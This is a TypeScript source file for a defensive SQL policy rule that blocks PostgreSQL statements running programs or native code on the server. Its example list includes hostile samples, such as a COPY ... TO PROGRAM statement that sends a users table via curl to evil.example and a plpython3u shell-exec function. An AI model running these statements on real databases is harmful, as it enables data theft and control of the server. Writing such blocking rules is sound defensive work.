import { defineRule, type RuleContext, type RuleMatch } from '../rule.js';
import { code, effectsOf, origin, uniqueMatches } from './support.js';

export type NoProgramExecParams = { extensions: boolean };

/** Languages whose functions run native code or an interpreter with the server's operating-system rights. */
function untrusted(language: string): boolean {
  const lang = language.toLowerCase();
  return lang === 'c' || lang === 'internal' || lang === 'plsh' || lang === 'plr' || (lang.startsWith('pl') && lang.endsWith('u'));
}

const HINT = 'running programs or native code on the database server is not available through Parapet; ask the database administrators';

export const noProgramExec = defineRule({
  id: 'no-program-exec',
  summary: 'Blocks running programs and native code on the database server: COPY … PROGRAM, LOAD, library settings, untrusted-language functions, CREATE EXTENSION',
  rationale:
    '`COPY … TO/FROM PROGRAM` runs a shell command as the server\'s operating-system user; `LOAD` and functions in C or untrusted languages ' +
    '(plpython3u, plperlu, …) run native code inside the server, and so do libraries named in `session_preload_libraries` or `shared_preload_libraries`; ' +
    'extensions install both. Any of them turns database access into control of the machine.',
  solution:
    'Move data with `COPY … FROM STDIN` / `TO STDOUT` and process it on your side. Extensions and native functions are installed by the database administrators ' +
    '(set `extensions: false` to let a migration actor install extensions).',
  defaultAction: 'deny',
  paramsSchema: {
    type: 'object',
    additionalProperties: false,
    properties: {
      extensions: { type: 'boolean', description: 'Also block CREATE / ALTER EXTENSION (extension scripts run with high privileges and load native libraries)' },
    },
  },
  defaults: { extensions: true } as NoProgramExecParams,
  examples: {
    match: [
      { sql: "COPY users TO PROGRAM 'curl -d @- https://evil.example'" },
      { sql: "COPY t FROM PROGRAM 'id'" },
      { sql: "LOAD 'auto_explain'" },
      { sql: "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS 'import os; return os.popen(args[0]).read()'" },
      { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'mylib', 'f'" },
      { sql: 'CREATE EXTENSION plpython3u' },
      { sql: "SET session_preload_libraries = 'evil'" },
      { sql: "ALTER SYSTEM SET shared_preload_libraries = 'evil'" },
    ],
    noMatch: [
      { sql: 'COPY users TO STDOUT' },
      { sql: 'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$' },
      { sql: 'CREATE EXTENSION pg_trgm', params: { extensions: false } },
    ],
  },
  check({ request, params }: RuleContext<NoProgramExecParams>): RuleMatch[] {
    const matches: RuleMatch[] = [];
    for (const effect of effectsOf(request.statement, 'external')) {
      const target = effect.target === undefined ? '' : ` ${code(effect.target)}`;
      if (effect.channel === 'program') matches.push({ message: `the statement runs program${target} on the database server${origin(effect)}`, hint: HINT });
      else if (effect.channel === 'load') matches.push({ message: `the statement loads library${target} into the server${origin(effect)}`, hint: HINT });
      else if (effect.channel === 'extension' && params.extensions) matches.push({ message: `the statement installs or changes extension${target}${origin(effect)}`, hint: HINT });
    }
    for (const effect of effectsOf(request.statement, 'config')) {
      if ((effect.safety ?? []).includes('library') && effect.operation !== 'reset' && effect.operation !== 'reset-all') {
        matches.push({ message: `the statement changes ${code(effect.name ?? 'a library setting')}, which decides what native libraries the server loads${origin(effect)}`, hint: HINT });
      }
    }
    for (const effect of effectsOf(request.statement, 'dynamic-sql')) {
      if (effect.source === 'function-body' && untrusted(effect.language)) {
        matches.push({ message: `the statement creates a function in ${code(effect.language)}, which runs native code on the server`, hint: HINT });
      }
    }
    return uniqueMatches(matches);
  },
});
